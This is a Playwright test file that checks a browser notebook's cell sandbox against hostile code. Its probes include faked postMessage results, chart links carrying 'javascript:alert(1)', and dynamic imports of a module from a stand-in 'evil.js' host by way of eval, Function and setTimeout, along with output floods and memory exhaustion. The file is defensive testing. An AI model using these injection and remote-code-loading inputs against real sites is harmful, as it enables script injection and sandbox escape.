// Cell code written to hurt the page: posting to the page behind the runtime's back, faking the end
// of a run, charts with script links, output far past every limit, reaching another origin or
// lasting storage, a huge time limit, link code run by "Run all above", and Run while offline.
// Each probe records the longest main-thread task it caused (written to test-results/cell-probes.json).
import { test, expect, type Page, type Locator } from "@playwright/test";
import { createServer, type Server } from "node:http";
import { mkdirSync, writeFileSync } from "node:fs";
import { watch } from "./watch";
import { edit, recordLongTasks, pageNow, longestTaskSince } from "./cell-editor";

const PAGE = "chapters/00-before-you-start/";
const first = (page: Page) => page.locator("dl-cell#ch0-shapes");
const second = (page: Page) => page.locator("dl-cell#ch0-columns");
const log = (cell: Locator) => cell.locator(".dl-cell-log");
const status = (cell: Locator) => cell.locator("[data-status]");
const b64url = (s: string) => Buffer.from(s, "utf8").toString("base64url");
const stalls: Record<string, number> = {};
// The goal is no task over 100 ms (the figures are written out and reported). The assertion allows
// 2 s because on a loaded 2-core machine scheduling alone makes long tasks (a one-line run measured
// 144 ms, "60 tables of 100 x 20" 1595 ms, 0 ms in an earlier run); it still fails on what these
// probes used to do: stall the page for 11–60 s. The same bound as the storage probes.
const STALL_LIMIT = 2000;

/** Runs `code` in `cell` with Ctrl+Enter, waits until the run ends (finished or stopped), returns the longest task meanwhile. */
async function probe(page: Page, cell: Locator, name: string, code: string): Promise<number> {
  await edit(page, cell, code);
  const t0 = await pageNow(page);
  await page.keyboard.press("Control+Enter");
  // Waited for by a plain function: Playwright's toHaveAttribute polling ran in the page for up to 2 s at a time
  // while tables were drawn, and the probe took those tasks for the page's own.
  const el = await cell.elementHandle();
  await page.waitForFunction((c) => /ok|error|stopped/.test(c?.getAttribute("data-done") ?? ""), el, { timeout: 30_000, polling: 100 });
  // Output is drawn in slices after the status line: wait for the page to go quiet, then read.
  await page.waitForTimeout(300);
  const longest = Math.round(await longestTaskSince(page, t0));
  stalls[name] = longest;
  return longest;
}

test.beforeEach(async ({ page }) => {
  await recordLongTasks(page);
});

test.afterAll(() => {
  mkdirSync("test-results", { recursive: true });
  writeFileSync("test-results/cell-probes.json", JSON.stringify(stalls, null, 2));
  console.log("cell probes: longest main-thread task (ms)", JSON.stringify(stalls));
});

test("cell code cannot post to the page, fake the end of a run, or draw a link", async ({ page, baseURL }) => {
  const problems = watch(page, new URL(baseURL!).origin);
  await page.goto(PAGE);
  const cell = first(page);
  // The worker's own channel is gone, and trying it reaches nothing (each try throws, so 10,000 of them).
  const flood = [
    "let tries = 0;",
    'for (let i = 0; i < 10000; i++) { try { self.postMessage({ run: 1, kind: "log", level: "log", text: "fake" }); } catch { tries++; } }',
    "const proto = Object.getPrototypeOf(self);",
    "console.log(tries, typeof self.postMessage, typeof postMessage, typeof onmessage, typeof addEventListener, typeof close, typeof proto.postMessage);",
  ].join("\n");
  expect(await probe(page, cell, "self.postMessage x 10,000", flood)).toBeLessThan(STALL_LIMIT);
  await expect(log(cell)).toHaveText("10000 undefined undefined undefined undefined undefined undefined");

  // 300,000 real log lines: 500 are shown, then a note says the rest was cut.
  expect(await probe(page, cell, "console.log x 300,000", "for (let i = 0; i < 300000; i++) console.log(i);")).toBeLessThan(STALL_LIMIT);
  await expect(log(cell).locator("span")).toHaveCount(500);
  await expect(cell.locator("[data-output-body] .dl-cell-warn")).toContainText("at most 500 outputs");

  // A fake "done" followed by an endless loop: the run is stopped by its time limit, not reported as finished.
  await cell.locator("[data-timeout-input]").fill("1");
  const fake = 'try { postMessage({ run: 2, kind: "done", ok: true, ms: 30 }); } catch {}\nwhile (true) {}';
  expect(await probe(page, cell, "fake done + while(true)", fake)).toBeLessThan(STALL_LIMIT);
  await expect(cell.locator(".dl-cell-error")).toContainText("Stopped after 1 s");
  await expect(status(cell)).not.toContainText("Ran in");
  // The next cell is not blamed: it runs in a fresh notebook and finishes normally.
  await cell.locator("[data-timeout-input]").fill("10");
  await edit(page, cell, 'console.log("next")');
  await page.keyboard.press("Control+Enter");
  await expect(log(cell)).toHaveText("next");
  await expect(status(cell)).toContainText("Ran in");

  // Charts: a link option is refused with a message; a bad mark too; nothing links on the page.
  const charts = [
    'try { plot({ marks: [{ mark: "dot", data: [1, 2], href: "javascript:alert(1)" }] }); } catch (e) { console.log(String(e)); }',
    'try { plot({ marks: [{ mark: "text", data: [1], text: "javascript:alert(1)" }] }); } catch (e) { console.log(String(e)); }',
    'plot({ title: "fine", marks: [{ mark: "lineY", data: [1, 4, 9] }] });',
    'return { marks: [{ mark: "nope" }] };',
  ].join("\n");
  expect(await probe(page, cell, "charts with links and bad marks", charts)).toBeLessThan(STALL_LIMIT);
  await expect(log(cell)).toContainText("href is not an option");
  await expect(log(cell)).toContainText("marks[0].text");
  await expect(cell.locator(".dl-cell-chart svg")).toHaveCount(1);
  await expect(cell.locator(".dl-cell-error")).toContainText("marks[0].mark must be one of");
  expect(await page.locator("dl-cell a, dl-cell [href], dl-cell [*|href]").count()).toBe(0);
  expect(await cell.locator("[data-output-body]").evaluate((el) => el.innerHTML.includes("javascript:"))).toBe(false);
  expect(problems.pageErrors).toEqual([]);
});

test("output past every limit is cut in the worker, said so, and drawn without stalling the page", async ({ page, baseURL }) => {
  const problems = watch(page, new URL(baseURL!).origin);
  await page.goto(PAGE);
  const cell = first(page);
  // The baseline: what a one-line run costs the main thread.
  expect(await probe(page, cell, "baseline: console.log(1)", "console.log(1);")).toBeLessThan(STALL_LIMIT);
  expect(await probe(page, cell, 'console.log("x".repeat(5e7))', 'console.log("x".repeat(5e7));')).toBeLessThan(STALL_LIMIT);
  await expect(log(cell)).toContainText("more characters not shown");
  expect((await log(cell).textContent())!.length).toBeLessThanOrEqual(10_000);

  expect(
    await probe(page, cell, "table(60,000 keys)", "table(Object.fromEntries(Array.from({ length: 60000 }, (_, i) => [`k${i}`, i])));"),
  ).toBeLessThan(STALL_LIMIT);
  await expect(cell.locator(".dl-cell-table tbody tr")).toHaveCount(100);
  await expect(cell.locator(".dl-cell-table p")).toHaveText("… 59,900 more rows not shown.");

  expect(
    await probe(
      page,
      cell,
      "table(100,000 columns)",
      "table([Object.fromEntries(Array.from({ length: 100000 }, (_, j) => [`c${j}`, j]))]);",
    ),
  ).toBeLessThan(STALL_LIMIT);
  await expect(cell.locator(".dl-cell-table thead th")).toHaveCount(21);
  await expect(cell.locator(".dl-cell-table p")).toHaveText("… 99,980 more columns not shown.");

  expect(await probe(page, cell, "table(200,000 columns)", "table([Array.from({ length: 200000 }, (_, j) => j)]);")).toBeLessThan(
    STALL_LIMIT,
  );
  await expect(status(cell)).toContainText("Ran in");
  await expect(cell.locator(".dl-cell-table p")).toHaveText("… 199,980 more columns not shown.");

  // Many big tables: the character budget of a run stops them and says so.
  expect(
    await probe(
      page,
      cell,
      "60 tables of 100 x 20",
      "for (let k = 0; k < 60; k++) table(Array.from({ length: 100 }, () => Array.from({ length: 20 }, () => 123.456)));",
    ),
  ).toBeLessThan(STALL_LIMIT);
  await expect(cell.locator("[data-output-body] .dl-cell-warn")).toContainText("characters of output");
  expect(problems.pageErrors).toEqual([]);
});

test("cell code cannot reach another origin or lasting storage", async ({ page, baseURL }) => {
  // A second origin on loopback that would serve a module to anyone (CORS open); it must see no request.
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" });
    res.end("export const pwned = true;");
  });
  await new Promise<void>((resolve) => server.listen(4514, "127.0.0.1", resolve));
  try {
    // The control: the server answers when asked directly.
    expect((await fetch("http://127.0.0.1:4514/control.js")).status).toBe(200);
    hits.length = 0;
    const problems = watch(page, new URL(baseURL!).origin);
    await page.goto(PAGE);
    const cell = first(page);
    const code = [
      'const url = "http://127.0.0.1:4514/evil.js";',
      "const tries = {",
      '  eval: () => (0, eval)(`import("${url}")`),',
      '  Function: () => new Function(`return import("${url}")`)(),',
      '  setTimeout: () => new Promise((ok) => { setTimeout(`import("${url}")`, 0); setTimeout(ok, 200); }),',
      "};",
      "const out = [];",
      "for (const [name, f] of Object.entries(tries)) {",
      "  try { await f(); out.push(`${name} ran`); } catch (e) { out.push(`${name} blocked`); }",
      "}",
      'console.log(out.join(", "));',
      "console.log(typeof navigator.storage, typeof indexedDB, typeof caches, typeof fetch, typeof Worker, typeof WebSocket);",
      'try { await navigator.storage.getDirectory(); console.log("OPFS open"); } catch { console.log("no OPFS"); }',
    ].join("\n");
    expect(await probe(page, cell, "import from another origin", code)).toBeLessThan(STALL_LIMIT);
    await expect(log(cell)).toContainText("eval blocked, Function blocked");
    await expect(log(cell)).toContainText("undefined undefined undefined undefined undefined undefined");
    await expect(log(cell)).toContainText("no OPFS");
    await page.waitForTimeout(300);
    expect(hits).toEqual([]);
    expect(problems.foreignRequests).toEqual([]);
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
});

test("a cell that fills memory is ended by its time limit and the page survives", async ({ page }) => {
  // A short limit ends the run before the heap fills; when it does not, the sandbox's process ends
  // instead of the tab (the tests below).
  await page.goto(PAGE);
  const cell = first(page);
  await cell.locator("[data-timeout-input]").fill("1");
  const t0 = await pageNow(page);
  expect(
    await probe(page, cell, "memory: push 1e6-element arrays until stopped", "const a = [];\nwhile (true) a.push(new Array(1e6).fill(0));"),
  ).toBeLessThan(STALL_LIMIT);
  await expect(cell.locator(".dl-cell-error")).toContainText("Stopped after 1 s");
  expect(await page.evaluate(() => 6 * 7)).toBe(42);
  await cell.locator("[data-timeout-input]").fill("10");
  await edit(page, cell, 'console.log("still here")');
  await page.keyboard.press("Control+Enter");
  await expect(log(cell)).toHaveText("still here");
  expect(Math.round(await longestTaskSince(page, t0))).toBeLessThan(STALL_LIMIT);
});

/**
 * Runs `code` in the first cell with the longest time limit (600 s) until it ends, then proves the tab lived: a cell that
 * fills memory kills its sandboxed frame's process, which Playwright reports as a crash of the whole
 * page (and then refuses every call on it). So the page is read through a CDP session of its own,
 * opened before the run: if the tab itself had crashed, that session's evaluate would fail too.
 */
async function fillMemory(page: Page, name: string, code: string): Promise<{ note: string; seconds: number }> {
  const cell = first(page);
  // The limit must not end the run first: on this loaded machine filling the heap takes 30-90 s.
  await cell.locator("[data-timeout-input]").fill("600");
  await edit(page, cell, code);
  const cdp = await page.context().newCDPSession(page);
  const inPage = async <T>(expression: string): Promise<T> => {
    const r = await cdp.send("Runtime.evaluate", { expression, returnByValue: true, awaitPromise: true });
    if (r.exceptionDetails) throw new Error(r.exceptionDetails.text);
    return r.result.value as T;
  };
  const t0 = await pageNow(page);
  await page.keyboard.press("Control+Enter");
  const done = 'document.querySelector("dl-cell#ch0-shapes").getAttribute("data-done")';
  await expect.poll(() => inPage<string | null>(done), { timeout: 300_000, intervals: [500] }).toMatch(/error|stopped/);
  const seconds = Math.round((await inPage<number>("performance.now()")) - t0) / 1000;
  const note = await inPage<string>('document.querySelector("dl-cell#ch0-shapes [data-output-body]").textContent');
  // The tab answers, and its main thread was never blocked for long.
  expect(await inPage<number>("6 * 7")).toBe(42);
  const longest = Math.round(await inPage<number>(`Math.max(0, ...window.longTasks.filter(([s]) => s >= ${t0}).map(([, d]) => d))`));
  stalls[name] = longest;
  console.log(`${name}: ended after ${seconds} s; longest main-thread task ${longest} ms; note: ${note}`);
  expect(longest).toBeLessThan(STALL_LIMIT);
  // The next run works: the cell's own code again, in a fresh sandbox.
  await inPage('document.querySelector("dl-cell#ch0-shapes [data-action=reset]").click()');
  await inPage('document.querySelector("dl-cell#ch0-shapes [data-action=run]").click()');
  await expect
    .poll(() => inPage<string>('document.querySelector("dl-cell#ch0-shapes .dl-cell-log")?.textContent ?? ""'), { timeout: 30_000 })
    .toBe("X [3, 2] W [4, 3] Z [4, 2]");
  await cdp.detach();
  return { note, seconds };
}

test("a cell that fills memory ends only that cell, says so, and the next run works", async ({ page }) => {
  test.setTimeout(400_000);
  await page.goto(PAGE);
  const { note } = await fillMemory(
    page,
    "memory: push 1e6-element arrays, 600 s limit",
    "const a = [];\nwhile (true) a.push(new Array(1e6).fill(0));",
  );
  expect(note).toContain("ran out of memory");
});

test("a cell that computes without a pause for 4 s is not taken for out of memory", async ({ page }) => {
  // The page pings the sandbox's own thread, not the worker: a busy worker leaves the pings answered.
  await page.goto(PAGE);
  const cell = first(page);
  await cell.locator("[data-timeout-input]").fill("20");
  const code = 'const t0 = performance.now();\nwhile (performance.now() - t0 < 4000) {}\nconsole.log("computed");';
  expect(await probe(page, cell, "4 s without a pause", code)).toBeLessThan(STALL_LIMIT);
  await expect(log(cell)).toHaveText("computed");
  await expect(status(cell)).toContainText("Ran in");
  await expect(cell.locator(".dl-cell-error")).toHaveCount(0);
});

test("a string doubled until it cannot grow ends the cell, never the tab", async ({ page }) => {
  // It ends with the engine's own error (a RangeError) or the out-of-memory note: either way only the cell.
  // Measured once and not repeated here, for their cost: new Array(5e8).fill(0) ends with a RangeError after 34 s,
  // typed arrays of 1e7 pushed until they fail after 194 s and many GB.
  test.setTimeout(400_000);
  await page.goto(PAGE);
  const { note } = await fillMemory(page, "memory: a string doubling", 'let s = "x";\nwhile (true) s += s;');
  expect(note).toMatch(/ran out of memory|RangeError/);
});

test("a huge time limit is clamped to its range, and Run all above passes by code from a link", async ({ page }) => {
  const linked = 'console.log("from a link")';
  await page.goto(`${PAGE}?ch0-shapes.code=${b64url(linked)}`);
  const cell = first(page);
  await expect(cell.locator(".cm-content")).toHaveText(linked);
  await expect(cell.locator("[data-notice]")).toContainText("has not been run");
  // Run all above from the second cell: the first cell's link code does not run.
  await second(page).locator("[data-action=above]").click();
  await expect(cell.locator("[data-notice]")).toContainText("did not run this cell: its code came from a link");
  await page.waitForTimeout(500);
  await expect(cell.locator("[data-output]")).toBeHidden();
  // Its own Run press runs it; from then on Run all above includes it.
  await cell.locator("[data-action=run]").click();
  await expect(log(cell)).toHaveText("from a link");
  await second(page).locator("[data-action=above]").click();
  await expect(cell.locator("[data-notice]")).toBeEmpty();
  await expect(status(cell)).toContainText("Ran in");

  // 1e9 s overflowed the timer and stopped every run at once; it is now read as 600 s.
  await cell.locator("[data-timeout-input]").fill("1e9");
  await edit(page, cell, 'const t0 = performance.now();\nwhile (performance.now() - t0 < 300) {}\nconsole.log("waited");');
  await page.keyboard.press("Control+Enter");
  await expect(log(cell)).toHaveText("waited");
  await expect(cell.locator(".dl-cell-error")).toHaveCount(0);
});

test("Run while offline before the runner was ever loaded says so in the cell, and works once back online", async ({
  page,
  context,
  baseURL,
}) => {
  const problems = watch(page, new URL(baseURL!).origin);
  await page.goto(PAGE);
  const cell = first(page);
  await context.setOffline(true);
  const t0 = await pageNow(page);
  await cell.locator("[data-action=run]").click();
  await expect(cell.locator("[data-load-failed]")).toBeVisible();
  await expect(cell.locator("[data-load-failed]")).toContainText("could not be loaded (are you offline?)");
  stalls["Run while offline"] = Math.round(await longestTaskSince(page, t0));
  await context.setOffline(false);
  await cell.locator("[data-action=run]").click();
  await expect(log(cell)).toHaveText("X [3, 2] W [4, 3] Z [4, 2]");
  await expect(cell.locator("[data-load-failed]")).toBeHidden();
  expect(problems.pageErrors).toEqual([]);
});
